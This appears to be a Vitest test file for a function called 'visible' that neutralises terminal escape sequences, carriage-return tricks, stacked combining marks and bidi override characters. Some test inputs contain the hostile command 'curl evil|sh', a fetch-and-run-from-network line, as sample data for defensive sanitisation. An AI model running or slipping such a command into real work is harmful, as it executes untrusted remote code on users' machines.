import { describe, expect, it } from "vitest";
import { visible } from "./Said";

describe("visible", () => {
  it("leaves letters with as many marks as scripts have", () => {
    expect(visible("e\u0301 क्\u200dष")).toBe("e\u0301 क्\u200dष");
  });

  it("counts marks that would be drawn over other lines", () => {
    expect(visible(`a${"\u0301".repeat(3_000)}b`)).toBe(`a${"\u0301".repeat(8)}[2992 more marks]b`);
  });

  it("leaves a mark where it leaves out what is for a terminal, which may hold lines", () => {
    expect(visible("a\u001b]0;\ncurl evil|sh #\u0007b\u001b[2J")).toBe("a[20 characters for a terminal left out]b[4 characters for a terminal left out]");
  });

  it("makes a line of what a carriage return ends", () => {
    expect(visible("echo a\rcurl evil|sh\r\nb\r\r\nc")).toBe("echo a\ncurl evil|sh\nb\n\nc");
  });

  it("spells out what would turn the line around or not be seen, and takes out colours", () => {
    expect(visible("\u001b[31mred\u001b[0m \u202etxt.exe")).toBe("red \\u202etxt.exe");
  });
});
